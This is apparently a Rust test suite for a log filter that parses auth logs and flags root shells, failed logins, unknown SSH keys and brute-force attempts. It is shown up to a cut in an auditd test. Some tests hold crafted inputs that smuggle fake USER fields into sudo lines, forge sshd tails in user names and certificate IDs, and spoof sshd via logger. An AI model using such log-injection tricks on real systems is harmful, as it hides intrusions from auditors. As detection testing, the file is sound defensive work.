//! Host audit streams (authlog, auditd, pgaudit) through the built module, on the real
//! logs of the shared corpus.

mod common;

use audit_sieve_host::{Fate, FluentBitHost, Format};
use common::*;
use serde_json::{Value, json};

fn corpus_files(dir: &str) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(corpus(dir))
        .unwrap_or_else(|e| panic!("{dir}: {e}"))
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names.into_iter().map(|n| format!("{dir}/{n}")).collect()
}

/// The lines of a corpus file, read leniently (a few files hold Latin-1 bytes).
fn lines_of(path: &str) -> Vec<String> {
    let bytes = std::fs::read(corpus(path)).unwrap_or_else(|e| panic!("{path}: {e}"));
    String::from_utf8_lossy(&bytes).lines().filter(|l| !l.trim().is_empty()).map(str::to_owned).collect()
}

fn log_record(line: &str) -> String {
    json!({ "log": line }).to_string()
}

fn at(host: &mut FluentBitHost, record: &str, time: u32) -> Fate {
    host.filter(Format::Json, TAG, (time, 0), record.as_bytes())
}

/// The record kept, parsed; panics when it was dropped or lost.
fn keep(host: &mut FluentBitHost, record: &str) -> Value {
    match json(host, record) {
        Fate::Kept(bytes) => parse(&bytes),
        other => panic!("{record}: expected it kept, got {other:?}"),
    }
}

fn review(v: &Value) -> Vec<&str> {
    v["review"].as_array().map(|a| a.iter().filter_map(Value::as_str).collect()).unwrap_or_default()
}

/// Every line of every auth log: never lost or dropped; either parsed (`ssh`/`sudo`) or
/// returned byte for byte (or, for an sshd/sudo/su line the parsers do not know, tagged
/// and otherwise unchanged).
#[test]
fn authlog_corpus_lines_are_kept_and_parsed_or_unchanged() {
    let mut h = host();
    let (mut total, mut parsed, mut tagged, mut unchanged) = (0, 0, 0, 0);
    for file in corpus_files("authlog") {
        for line in lines_of(&file) {
            total += 1;
            let record = log_record(&line);
            match json(&mut h, &record) {
                Fate::Kept(bytes) if bytes == record.as_bytes() => unchanged += 1,
                Fate::Kept(bytes) => {
                    let v = parse(&bytes);
                    assert_eq!(v["log"], line.as_str(), "{file}: the line is kept");
                    assert_eq!(v["log_type"], "authlog", "{file}: {line}");
                    if v.get("ssh").is_some() || v.get("sudo").is_some() {
                        parsed += 1;
                    } else {
                        // Tagged only: the stream field and nothing else added.
                        let obj = v.as_object().unwrap();
                        assert_eq!(obj.len(), 2, "{file}: {line} -> {v}");
                        tagged += 1;
                    }
                }
                other => panic!("{file}: {line}: {other:?}"),
            }
        }
    }
    println!("authlog corpus: {total} lines, {parsed} parsed, {tagged} tagged only, {unchanged} unchanged");
    assert!(total > 4000, "{total}");
    assert!(parsed * 10 > total * 6, "{parsed} of {total} parsed");
}

/// Real lines and the fields they must carry.
#[test]
fn authlog_fields_of_real_lines() {
    let cases: &[(&str, Value)] = &[
        (
            "Sep  6 09:57:21 bullseye sshd[581]: Accepted publickey for vagrant from 1.2.3.4 port 56296 ssh2: RSA SHA256:1M4RzhMyWuFS/86uPY/ce2prh/dVTHW7iD2RhpquOZA",
            json!({"ssh": {"outcome": "accepted", "user": "vagrant", "source_ip": "1.2.3.4", "port": 56296,
                "method": "publickey", "key_type": "RSA", "fingerprint": "SHA256:1M4RzhMyWuFS/86uPY/ce2prh/dVTHW7iD2RhpquOZA",
                "host": "bullseye", "program": "sshd", "pid": 581, "syslog_time": "Sep  6 09:57:21"}}),
        ),
        (
            "Feb 21 21:54:44 localhost sshd[3402]: Accepted publickey for vagrant from 10.0.2.2 port 63673 ssh2: RSA 39:33:99:e9:a0:dc:f2:33:a3:e5:72:3b:7c:3a:56:84",
            json!({"ssh": {"outcome": "accepted", "user": "vagrant", "source_ip": "10.0.2.2", "port": 63673,
                "method": "publickey", "key_type": "RSA", "fingerprint": "39:33:99:e9:a0:dc:f2:33:a3:e5:72:3b:7c:3a:56:84",
                "host": "localhost", "program": "sshd", "pid": 3402, "syslog_time": "Feb 21 21:54:44"}}),
        ),
        (
            "Aug 14 11:57:01 i60p295 sshd[12365]: Accepted keyboard-interactive/pam for roehl from ::ffff:141.3.81.106 port 51332 ssh2",
            json!({"ssh": {"outcome": "accepted", "user": "roehl", "source_ip": "141.3.81.106", "port": 51332,
                "method": "keyboard-interactive/pam", "host": "i60p295", "program": "sshd", "pid": 12365,
                "syslog_time": "Aug 14 11:57:01"}}),
        ),
        (
            "srv sshd[31603]: Failed password for invalid user ROOT from aaaa:bbbb:cccc:1234::1:1 port 50273 ssh2",
            json!({"ssh": {"outcome": "failed", "user": "ROOT", "invalid_user": true, "source_ip": "aaaa:bbbb:cccc:1234::1:1",
                "port": 50273, "method": "password", "host": "srv", "program": "sshd", "pid": 31603},
                "review": ["auth_failure"]}),
        ),
        (
            "Feb 20 08:35:22 slave22 sshd[5774]: Failed password for root from 216.160.83.57 port 29160 ssh2",
            json!({"ssh": {"outcome": "failed", "user": "root", "source_ip": "216.160.83.57", "port": 29160,
                "method": "password", "host": "slave22", "program": "sshd", "pid": 5774, "syslog_time": "Feb 20 08:35:22"},
                "review": ["auth_failure"]}),
        ),
        (
            "Feb 12 14:10:24 sd-126005 sshd-session[16379]: Invalid user pascal5 from 35.188.49.176 port 53502",
            json!({"ssh": {"outcome": "invalid_user", "user": "pascal5", "invalid_user": true, "source_ip": "35.188.49.176",
                "port": 53502, "host": "sd-126005", "program": "sshd-session", "pid": 16379, "syslog_time": "Feb 12 14:10:24"},
                "review": ["auth_failure"]}),
        ),
        (
            "<38>1 2022-01-19T14:23:55+00:00 OPNsense.localdomain sshd 44255 - [meta sequenceId=\"1\"] Invalid user tutu from 1.2.3.4 port 33166",
            json!({"ssh": {"outcome": "invalid_user", "user": "tutu", "invalid_user": true, "source_ip": "1.2.3.4",
                "port": 33166, "host": "OPNsense.localdomain", "program": "sshd", "pid": 44255,
                "syslog_time": "2022-01-19T14:23:55+00:00"}, "review": ["auth_failure"]}),
        ),
        (
            "srv sshd[1556]: pam_unix(sshd:session): session opened for user rda by (uid=0)",
            json!({"ssh": {"outcome": "session_opened", "user": "rda", "host": "srv", "program": "sshd", "pid": 1556}}),
        ),
        (
            "Apr 27 15:22:23 niban sudo:     dcid : TTY=pts/4 ; PWD=/home/dcid ; USER=root ; COMMAND=/usr/bin/tail /var/log/snort/alert.fast",
            json!({"sudo": {"tool": "sudo", "outcome": "allowed", "user": "dcid", "target_user": "root",
                "command": "/usr/bin/tail /var/log/snort/alert.fast", "tty": "pts/4", "pwd": "/home/dcid",
                "host": "niban", "program": "sudo", "syslog_time": "Apr 27 15:22:23"}}),
        ),
        (
            "Jun 25 16:15:45 precise32 sudo:     mike : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/ls",
            json!({"sudo": {"tool": "sudo", "outcome": "incorrect_password", "user": "mike", "target_user": "root",
                "command": "/bin/ls", "tty": "pts/0", "pwd": "/root", "reason": "3 incorrect password attempts", "attempts": 3,
                "host": "precise32", "program": "sudo", "syslog_time": "Jun 25 16:15:45"},
                "review": ["auth_failure", "sudo_failure"]}),
        ),
        (
            "Apr 27 15:22:23 niban su[234]: BAD SU ger to fwmaster on /dev/ttyp0",
            json!({"review": ["auth_failure", "sudo_failure"]}),
        ),
    ];
    let mut h = host();
    for (line, want) in cases {
        let v = keep(&mut h, &log_record(line));
        assert_eq!(v["log_type"], "authlog", "{line}");
        assert_eq!(v["log"], *line);
        for (key, value) in want.as_object().unwrap() {
            assert_eq!(&v[key], value, "{line}: `{key}`\n got {v}");
        }
        if want.get("review").is_none() {
            assert!(v.get("review").is_none(), "{line}: {v}");
        }
    }
}

#[test]
fn sudo_root_shell_is_flagged() {
    let mut h = host();
    let v = keep(
        &mut h,
        &log_record(
            "Mar  1 10:00:00 node-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
        ),
    );
    assert_eq!(review(&v), ["root_shell"]);
    let v = keep(&mut h, &json!({"ident": "su", "pid": "88", "message": "(to root) alice on pts/0"}).to_string());
    assert_eq!(v["sudo"]["tool"], "su");
    assert_eq!(review(&v), ["root_shell"]);
    // shadow-utils' su.
    let v = keep(&mut h, &log_record("Mar  1 10:00:00 node-1 su[99]: Successful su for root by alice"));
    assert_eq!((v["sudo"]["user"].as_str(), review(&v)), (Some("alice"), vec!["root_shell"]), "{v}");
    let v = keep(&mut h, &log_record("Mar  1 10:00:00 node-1 su[99]: FAILED su for root by mallory"));
    assert_eq!(review(&v), ["auth_failure", "sudo_failure"], "{v}");
}

/// What a user writes unescaped into sudo's line (a directory name, an environment variable,
/// a long path that makes sudo split the line) neither hides a root shell nor names another
/// target user.
#[test]
fn sudo_lines_a_user_shaped_still_show_the_root_shell() {
    let mut h = host();
    let sudo = |rest: &str| log_record(&format!("Mar 16 08:25:22 web1 sudo[1]: mallory : {rest}"));
    // (the line's fields, root_shell, the target user and command reported)
    let cases = [
        // `cd "/tmp/x ; USER=nobody ;"; sudo bash`
        ("TTY=pts/0 ; PWD=/tmp/x ; USER=nobody ; ; USER=root ; COMMAND=/bin/bash", true, None),
        // `sudo 'X=1 ; USER=nobody' vim /etc/shadow`
        ("TTY=pts/0 ; PWD=/home/m ; USER=root ; ENV=X=1 ; USER=nobody ; COMMAND=/usr/bin/vim /etc/shadow", false, None),
        ("TTY=pts/0 ; PWD=/home/m ; USER=nobody ; COMMAND=/bin/bash", false, Some(("nobody", "/bin/bash"))),
        ("TTY=pts/0 ; PWD=/home/m ; USER=root ; COMMAND=/bin/bash", true, Some(("root", "/bin/bash"))),
    ];
    for (rest, root_shell, reported) in cases {
        let v = keep(&mut h, &sudo(rest));
        assert_eq!(review(&v).contains(&"root_shell"), root_shell, "{rest}: {v}");
        let got = v["sudo"]["target_user"].as_str().zip(v["sudo"]["command"].as_str());
        assert_eq!(got, reported, "{rest}: {v}");
        assert_eq!(v["sudo"]["ambiguous"].as_bool(), reported.is_none().then_some(true), "{rest}: {v}");
    }
    // A PWD of 900 bytes: sudo logs the USER and COMMAND in a `(command continued)` line.
    let pwd = format!("/tmp/{}", "d".repeat(900));
    let v = keep(&mut h, &sudo(&format!("TTY=pts/0 ; PWD={pwd} ;")));
    assert_eq!((&v["sudo"]["outcome"], &v["sudo"]["tty"]), (&json!("allowed"), &json!("pts/0")), "{v}");
    let v = keep(&mut h, &sudo("(command continued) USER=root ; COMMAND=/bin/bash"));
    assert_eq!(v["sudo"]["outcome"], "continued", "{v}");
    assert_eq!(review(&v), ["root_shell"]);
}

/// sudo splits a line of about 960 bytes into parts logged one after the other; each later
/// part is judged with the parts before it, and only with its own line's.
#[test]
fn sudo_split_lines_are_judged_whole() {
    let mut h = host();
    let sudo = |who: &str, rest: &str| log_record(&format!("Mar 16 08:25:22 web1 sudo: {who} : {rest}"));
    let env = format!("ENV=X={}", "a".repeat(885));
    let pwd = format!("PWD=/tmp/{}", "d".repeat(900));
    // (the records in order, root_shell of each)
    let cases = [
        // Split at the space before ` ; COMMAND=`: the second part starts `; `.
        (
            vec![
                sudo("mallory", &format!("TTY=pts/0 ; {pwd} ; USER=root")),
                sudo("mallory", "(command continued) ; COMMAND=/bin/bash"),
            ],
            vec![false, true],
        ),
        // `sudo "X=<885 a's> ; USER=nobody" bash`: sudo's USER=root in the first part, a
        // made-up USER in the second.
        (
            vec![
                sudo("mallory", &format!("TTY=pts/0 ; PWD=/home/m ; USER=root ; {env} ;")),
                sudo("mallory", "(command continued) USER=nobody ; COMMAND=/bin/bash"),
            ],
            vec![false, true],
        ),
        // Another user's line between the parts neither borrows nor lends a USER.
        (
            vec![
                sudo("mallory", &format!("TTY=pts/0 ; PWD=/home/m ; USER=root ; {env} ;")),
                sudo("bob", &format!("TTY=pts/1 ; PWD=/home/b ; USER=bob ; {env} ;")),
                sudo("mallory", "(command continued) USER=nobody ; COMMAND=/bin/bash"),
                sudo("bob", "(command continued) COMMAND=/bin/bash"),
            ],
            vec![false, false, true, false],
        ),
        // sudo-rs: ` [...]` ends a part, `[...] ` starts the next, which names no user.
        (
            vec![
                sudo("alice", &format!("TTY=pts/0 ; {pwd} ; USER=root ; COMMAND=/usr/bin/env A=1 [...]")),
                sudo("carol", "TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id"),
                log_record("Mar 16 08:25:22 web1 sudo: [...]  bash"),
            ],
            vec![false, false, true],
        ),
        (
            vec![
                sudo("alice", &format!("TTY=pts/0 ; {pwd} ; USER=bo [...]")),
                log_record("Mar 16 08:25:22 web1 sudo: [...] b ; COMMAND=/bin/bash"),
            ],
            vec![false, false],
        ),
    ];
    for (records, want) in cases {
        let got: Vec<bool> = records.iter().map(|r| review(&keep(&mut h, r)).contains(&"root_shell")).collect();
        assert_eq!(got, want, "{records:?}");
    }
    let v = keep(&mut h, &log_record("Mar 16 08:25:22 web1 sudo: [...] ot ; COMMAND=/bin/bash"));
    assert_eq!((&v["sudo"]["outcome"], v["sudo"].get("user")), (&json!("continued"), None), "{v}");
}

/// The systemd input (with and without `Strip_Underscores`) and the syslog parsers' shape.
#[test]
fn systemd_and_syslog_input_shapes() {
    let msg = "Accepted publickey for ubuntu from 192.0.2.7 port 50022 ssh2: ED25519 SHA256:AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";
    let want_ssh = json!({"outcome": "accepted", "user": "ubuntu", "source_ip": "192.0.2.7", "port": 50022,
        "method": "publickey", "key_type": "ED25519",
        "fingerprint": "SHA256:AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"});
    let mut h = host_with(Some("cluster:\n  name: prod-eu-1\n"), &[]);
    let shapes = [
        (json!({"SYSLOG_IDENTIFIER": "sshd", "MESSAGE": msg, "_HOSTNAME": "node-1"}), "sshd", Some("node-1"), None),
        (json!({"_COMM": "sshd-session", "MESSAGE": msg, "_PID": "4242"}), "sshd-session", None, Some(4242)),
        (
            json!({"COMM": "sshd", "SYSLOG_IDENTIFIER": "sshd", "MESSAGE": msg, "HOSTNAME": "node-2"}),
            "sshd",
            Some("node-2"),
            None,
        ),
        (json!({"ident": "sshd", "pid": "123", "message": msg, "host": "node-3"}), "sshd", Some("node-3"), Some(123)),
        (json!({"log": format!("node-4 sshd[77]: {msg}")}), "sshd", Some("node-4"), Some(77)),
    ];
    for (record, program, host_name, pid) in shapes {
        let v = keep(&mut h, &record.to_string());
        assert_eq!(v["log_type"], "authlog", "{record}");
        assert_eq!(v["cluster"], "prod-eu-1", "{record}");
        for (k, want) in want_ssh.as_object().unwrap() {
            assert_eq!(&v["ssh"][k], want, "{record}: {k}");
        }
        assert_eq!(v["ssh"]["program"], program);
        assert_eq!(v["ssh"].get("host").and_then(Value::as_str), host_name, "{v}");
        assert_eq!(v["ssh"].get("pid").and_then(Value::as_u64), pid, "{v}");
        // The record's own members are all still there.
        for (k, value) in record.as_object().unwrap() {
            assert_eq!(&v[k], value);
        }
        // ubuntu is a shared account and this key belongs to nobody.
        assert_eq!(review(&v), ["unknown_key"]);
    }
}

/// Eve logs in to the shared `ubuntu` account with her key: the actor names her.
#[test]
fn eve_is_named_by_her_key_and_an_unknown_key_is_flagged() {
    let eve_key = "SHA256:Xm1Pz3M0bG3Q7yVv0l0kq5fZr5g8b2S9wqk1H4n3c2E";
    let config = format!(
        "identity:\n  ssh_keys:\n    \"{eve_key}\": eve@example.com\n    \"MD5:39:33:99:e9:a0:dc:f2:33:a3:e5:72:3b:7c:3a:56:84\": mallory@example.com\n"
    );
    let mut h = host_with(Some(&config), &[]);
    let line = format!(
        "Mar 16 08:25:22 bastion sshd[1234]: Accepted publickey for ubuntu from 192.0.2.7 port 50022 ssh2: ED25519 {eve_key}"
    );
    let v = keep(&mut h, &log_record(&line));
    assert_eq!(v["actor"], json!({"kind": "human", "email": "eve@example.com", "account": "ubuntu"}));
    assert!(v.get("review").is_none(), "{v}");

    let other = line.replace(eve_key, "SHA256:0000000000000000000000000000000000000000000");
    let v = keep(&mut h, &log_record(&other));
    assert!(v.get("actor").is_none(), "{v}");
    assert_eq!(review(&v), ["unknown_key"]);

    // Not a shared account: an unknown key is nobody's business here.
    let v = keep(&mut h, &log_record(&other.replace("for ubuntu", "for eve")));
    assert!(v.get("review").is_none(), "{v}");

    // Older OpenSSH logs MD5 fingerprints without the prefix the map uses.
    let v = keep(
        &mut h,
        &log_record(
            "Feb 21 21:54:44 localhost sshd[3402]: Accepted publickey for vagrant from 10.0.2.2 port 63673 ssh2: RSA 39:33:99:e9:a0:dc:f2:33:a3:e5:72:3b:7c:3a:56:84",
        ),
    );
    assert_eq!(v["actor"]["email"], "mallory@example.com");
    // And a map that gives the key bare, as that sshd logs it, matches the prefixed form
    // newer sshd logs.
    let bare = "identity:\n  ssh_keys:\n    \"39:33:99:e9:a0:dc:f2:33:a3:e5:72:3b:7c:3a:56:84\": mallory@example.com\n";
    let mut h = host_with(Some(bare), &[]);
    for fingerprint in
        ["39:33:99:e9:a0:dc:f2:33:a3:e5:72:3b:7c:3a:56:84", "MD5:39:33:99:e9:a0:dc:f2:33:a3:e5:72:3b:7c:3a:56:84"]
    {
        let line = format!(
            "Feb 21 21:54:44 localhost sshd[3402]: Accepted publickey for vagrant from 10.0.2.2 port 63673 ssh2: RSA {fingerprint}"
        );
        assert_eq!(keep(&mut h, &log_record(&line))["actor"]["email"], "mallory@example.com", "{fingerprint}");
    }
}

/// What the client controls does not name anyone: a user name faking sshd's tail, a
/// failed key (the public half is public), a journald identifier any local user can set.
#[test]
fn only_what_sshd_wrote_names_a_person() {
    let eve_key = "SHA256:Xm1Pz3M0bG3Q7yVv0l0kq5fZr5g8b2S9wqk1H4n3c2E";
    let config = format!("fields:\n  ecs: true\nidentity:\n  ssh_keys:\n    \"{eve_key}\": eve@example.com\n");
    let mut h = host_with(Some(&config), &[]);
    let sshd = |msg: &str| log_record(&format!("Mar 16 08:25:22 bastion sshd[99]: {msg}"));

    // The fake tail in the user name: the address and key are sshd's, the key nobody's.
    let fake = format!("x from 198.51.100.7 port 1 ssh2: ED25519 {eve_key}");
    let v = keep(&mut h, &sshd(&format!("Failed password for invalid user {fake} from 203.0.113.66 port 4444 ssh2")));
    assert_eq!((&v["ssh"]["source_ip"], &v["ssh"]["port"]), (&json!("203.0.113.66"), &json!(4444)), "{v}");
    assert!(v["ssh"].get("fingerprint").is_none() && v["user"].get("email").is_none(), "{v}");
    assert_eq!(v["source"]["ip"], "203.0.113.66");

    // A failed publickey names the key, not a person.
    let v =
        keep(&mut h, &sshd(&format!("Failed publickey for root from 203.0.113.66 port 4444 ssh2: ED25519 {eve_key}")));
    assert_eq!(v["ssh"]["fingerprint"], eve_key);
    assert!(v.get("actor").is_none() && v["user"].get("email").is_none(), "{v}");
    // Her key accepted as the first of two methods does.
    let v =
        keep(&mut h, &sshd(&format!("Partial publickey for ubuntu from 192.0.2.7 port 50022 ssh2: ED25519 {eve_key}")));
    assert_eq!(v["ssh"]["outcome"], "partial");
    assert_eq!(v["actor"], json!({"kind": "human", "email": "eve@example.com", "account": "ubuntu"}));
    assert_eq!(v["user"]["email"], "eve@example.com");
    assert!(v.get("review").is_none(), "{v}");

    // `logger -t sshd` from a shell: journald's `_COMM` says who wrote it.
    let accepted = format!("Accepted publickey for root from 192.0.2.1 port 50000 ssh2: ED25519 {eve_key}");
    for comm in ["_COMM", "COMM"] {
        let forged = json!({"SYSLOG_IDENTIFIER": "sshd", comm: "logger", "MESSAGE": accepted}).to_string();
        assert_eq!(at(&mut h, &forged, 0), Fate::Kept(forged.clone().into_bytes()), "{comm}");
        let real = json!({"SYSLOG_IDENTIFIER": "sshd", comm: "sshd-session", "MESSAGE": accepted}).to_string();
        assert_eq!(keep(&mut h, &real)["actor"]["email"], "eve@example.com", "{comm}");
    }
    // A `COMM` the client sent does not outvote journald's `_COMM`, before or after it.
    for forged in [
        format!(r#"{{"SYSLOG_IDENTIFIER":"sshd","COMM":"sshd","_COMM":"logger","MESSAGE":"{accepted}"}}"#),
        format!(r#"{{"SYSLOG_IDENTIFIER":"sshd","_COMM":"logger","COMM":"sshd","MESSAGE":"{accepted}"}}"#),
    ] {
        assert_eq!(at(&mut h, &forged, 0), Fate::Kept(forged.clone().into_bytes()), "{forged}");
    }
}

/// A user certificate's key ID is its CA's word for who holds it: from a CA configured in
/// `identity.ssh_user_cas`, it names the person, and the key is not unknown. Any user can
/// list a CA of their own in `authorized_keys`, so another CA's key ID names no one.
#[test]
fn a_certificate_names_its_holder() {
    let ca = "SHA256:Q2VydGlmaWNhdGVBdXRob3JpdHlGaW5nZXJwcmludAQ";
    let own_ca = "SHA256:TWFsbG9yeXNPd25DZXJ0aWZpY2F0ZUF1dGhvcml0eQQ";
    let key = "SHA256:VXNlcktleUZpbmdlcnByaW50T2ZBbGljZUZvclRlc3Q";
    let config = format!(
        "fields:\n  ecs: true\nidentity:\n  ssh_user_cas: [\"{ca}\"]\n  users:\n    vault-oidc-bob: bob@example.com\n  ssh_keys:\n    \"{key}\": carol@example.com\n"
    );
    let mut h = host_with(Some(&config), &[]);
    let login = |outcome: &str, key_info: &str| {
        log_record(&format!(
            "Mar 16 08:25:22 bastion sshd[99]: {outcome} publickey for ubuntu from 192.0.2.7 port 50022 ssh2: {key_info}"
        ))
    };
    let other = "SHA256:T3RoZXJLZXlGaW5nZXJwcmludE5vYm9keUtub3dzWFg";
    // (key info, the person named, whether `unknown_key` is raised)
    let cases = [
        (
            format!("ED25519-CERT {other} ID alice@example.com (serial 42) CA ED25519 {ca}"),
            Some("alice@example.com"),
            false,
        ),
        (format!("RSA-CERT ID alice@example.com (serial 42) CA RSA {ca}"), Some("alice@example.com"), false),
        (format!("ED25519-CERT {other} ID vault-oidc-bob (serial 7) CA ED25519 {ca}"), Some("bob@example.com"), false),
        // The key's own fingerprint, when mapped, wins over the key ID.
        (
            format!("ED25519-CERT {key} ID alice@example.com (serial 42) CA ED25519 {ca}"),
            Some("carol@example.com"),
            false,
        ),
        (format!("ED25519-CERT {other} ID ci-runner-17 (serial 9) CA ED25519 {ca}"), None, false),
        (format!("ED25519-CERT {other} ID  (serial 9) CA ED25519 {ca}"), None, true),
        (format!("ED25519 {other}"), None, true),
        // A CA of the user's own: its key ID names no one, its key is unknown, though the
        // key's own fingerprint still names its owner.
        (format!("ED25519-CERT {other} ID alice@example.com (serial 1) CA ED25519 {own_ca}"), None, true),
        (
            format!("ED25519-CERT {key} ID alice@example.com (serial 1) CA ED25519 {own_ca}"),
            Some("carol@example.com"),
            false,
        ),
        // A key ID holding a fake tail with carol's key: the address and key are sshd's.
        (
            format!(
                "ED25519-CERT {other} ID x from 10.9.9.9 port 22 ssh2: ED25519 {key} (serial 1) CA ED25519 {own_ca}"
            ),
            None,
            true,
        ),
    ];
    for (key_info, person, unknown) in cases {
        let v = keep(&mut h, &login("Accepted", &key_info));
        assert_eq!(v["ssh"]["source_ip"], "192.0.2.7", "{key_info}: {v}");
        assert_eq!(v["ssh"]["user"], "ubuntu", "{key_info}: {v}");
        assert_eq!(v["actor"]["email"].as_str(), person, "{key_info}: {v}");
        assert_eq!(v["user"]["email"].as_str(), person, "{key_info}: {v}");
        if person.is_some() {
            assert_eq!(v["actor"]["account"], "ubuntu", "{v}");
        }
        assert_eq!(review(&v).contains(&"unknown_key"), unknown, "{key_info}: {v}");
        if key_info.contains("-CERT") {
            let signer = if key_info.ends_with(own_ca) { own_ca } else { ca };
            let ca_type = key_info.split(' ').next().unwrap().trim_end_matches("-CERT");
            assert_eq!(
                (&v["ssh"]["ca_fingerprint"], &v["ssh"]["ca_key_type"]),
                (&json!(signer), &json!(ca_type)),
                "{v}"
            );
            assert!(v["ssh"]["cert_serial"].is_u64() && v["ssh"]["cert_id"].is_string(), "{v}");
        }
        // A certificate offered and refused proves nothing.
        let v = keep(&mut h, &login("Failed", &key_info));
        assert!(v.get("actor").is_none() && v["user"].get("email").is_none(), "{key_info}: {v}");
        assert!(!review(&v).contains(&"unknown_key"), "{key_info}: {v}");
    }
}

#[test]
fn a_login_sshd_refuses_is_an_auth_failure() {
    let mut h = host();
    for msg in [
        "User root from 203.0.113.9 not allowed because not listed in AllowUsers",
        "User mallory not allowed because account is locked",
        "ROOT LOGIN REFUSED FROM 203.0.113.9 port 50122",
        "PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root",
        "PAM service(sshd) ignoring max retries; 6 > 3",
    ] {
        let v = keep(&mut h, &log_record(&format!("Mar 16 08:25:22 bastion sshd[99]: {msg}")));
        assert_eq!(review(&v), ["auth_failure"], "{msg}: {v}");
    }
    // PAM's set-up, not a login.
    for msg in ["PAM adding faulty module: /lib/security/pam_x.so", "PAM unable to dlopen(pam_x.so): no such file"] {
        let v = keep(&mut h, &log_record(&format!("Mar 16 08:25:22 bastion sshd[99]: {msg}")));
        assert!(review(&v).is_empty(), "{msg}: {v}");
    }
}

/// A client that gives up while authenticating as a named user left no other trace of its
/// failed keys at sshd's default log level: flagged, not counted as a guess.
#[test]
fn abandoned_authentication_is_an_auth_failure() {
    let mut h = host();
    for (msg, flagged) in [
        ("Connection closed by authenticating user root 203.0.113.9 port 5555 [preauth]", true),
        ("Disconnected from authenticating user root 203.0.113.9 port 5555 [preauth]", true),
        ("Connection reset by authenticating user root 203.0.113.9 port 5555 [preauth]", true),
        ("Connection closed by 203.0.113.9 port 5555 [preauth]", false),
        ("Disconnected from user root 203.0.113.9 port 5555", false),
    ] {
        let v = keep(&mut h, &log_record(&format!("Mar 16 08:25:22 bastion sshd[99]: {msg}")));
        assert_eq!(review(&v).contains(&"auth_failure"), flagged, "{msg}: {v}");
    }
}

/// One count per guessed credential, whichever lines a log has about it: sshd's `Failed`
/// line, PAM's failure, `Invalid user` (once per connection), or all of them. The summaries
/// and `Failed none` never count.
#[test]
fn brute_force_counts_each_guess_once() {
    let ip = "203.0.113.5";
    // (lines of one connection with sshd pid `{pid}`; the 8th connection must fire)
    let logs: [(&str, Vec<String>); 5] = [
        (
            "a scanner trying one password per user name",
            vec![
                format!("sshd[{{pid}}]: Invalid user admin from {ip} port 4242"),
                format!("sshd[{{pid}}]: Failed none for invalid user admin from {ip} port 4242 ssh2"),
                "sshd[{pid}]: pam_unix(sshd:auth): check pass; user unknown".to_owned(),
                format!(
                    "sshd[{{pid}}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}"
                ),
                format!("sshd[{{pid}}]: Failed password for invalid user admin from {ip} port 4242 ssh2"),
                format!("sshd[{{pid}}]: Connection closed by invalid user admin {ip} port 4242 [preauth]"),
            ],
        ),
        (
            "PAM only",
            vec![format!(
                "sshd(pam_unix)[{{pid}}]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost={ip}  user=root"
            )],
        ),
        ("a key-only server", vec![format!("sshd[{{pid}}]: Invalid user oracle from {ip} port 4242")]),
        (
            "keys tried for root, logged at INFO",
            vec![format!("sshd[{{pid}}]: Disconnected from authenticating user root {ip} port 4242 [preauth]")],
        ),
        ("sshd alone", vec![format!("sshd[{{pid}}]: Failed password for root from {ip} port 4242 ssh2")]),
    ];
    for (what, lines) in &logs {
        let mut h = host();
        let mut fired = Vec::new();
        for connection in 0..8u32 {
            for line in lines {
                let line = line.replace("{pid}", &(1000 + connection).to_string());
                let record = log_record(&format!("Mar 16 08:25:22 bastion {line}"));
                let v = keep(&mut h, &record);
                if review(&v).contains(&"brute_force") {
                    fired.push(connection);
                }
            }
        }
        assert_eq!(fired, [7], "{what}");
    }
    // Three guesses in one connection, each written by PAM and by sshd, then sshd's summary:
    // three attempts.
    let mut h = host_with(Some("authlog:\n  brute_force: {failures: 3, window_seconds: 120}\n"), &[]);
    let mut flags = 0;
    for msg in [
        format!(
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root"
        ),
        format!("Failed password for root from {ip} port 4242 ssh2"),
        format!(
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root"
        ),
        format!("Failed password for root from {ip} port 4242 ssh2"),
        format!("error: maximum authentication attempts exceeded for root from {ip} port 4242 ssh2 [preauth]"),
        format!("PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root"),
        format!("Failed password for root from {ip} port 4242 ssh2"),
    ] {
        let v = keep(&mut h, &log_record(&format!("Mar 16 08:25:22 bastion sshd[77]: {msg}")));
        flags += usize::from(review(&v).contains(&"brute_force"));
    }
    assert_eq!(flags, 1);
}

/// 8 failures from one address within 120 s (record times) flag the 8th; the same spread
/// over more than 120 s do not.
#[test]
fn brute_force_is_flagged_within_the_window_only() {
    let fail = |ip: &str| {
        log_record(&format!("Mar 16 08:25:22 bastion sshd[99]: Failed password for root from {ip} port 4242 ssh2"))
    };
    let flagged = |fate: Fate| match fate {
        Fate::Kept(bytes) => review(&parse(&bytes)).contains(&"brute_force"),
        other => panic!("{other:?}"),
    };
    let mut h = host();
    let t0 = 1_763_630_000;
    for i in 0..8u32 {
        let hit = flagged(at(&mut h, &fail("203.0.113.5"), t0 + i * 15));
        assert_eq!(hit, i == 7, "failure {} at +{}s", i + 1, i * 15);
        // Another address in between does not count towards the first.
        if i % 2 == 0 {
            assert!(!flagged(at(&mut h, &fail("203.0.113.6"), t0 + i * 15)));
        }
    }
    let mut h = host();
    for i in 0..16u32 {
        // One failure every 18 s: any 8 consecutive span 126 s.
        assert!(!flagged(at(&mut h, &fail("198.51.100.9"), t0 + i * 18)), "failure {}", i + 1);
    }
}

/// Every `type=` line of the auditd corpus: kept, tagged `auditd`, with its record type.
#[test]
fn auditd_corpus_lines_are_tagged_with_their_type() {
    let mut h = host();
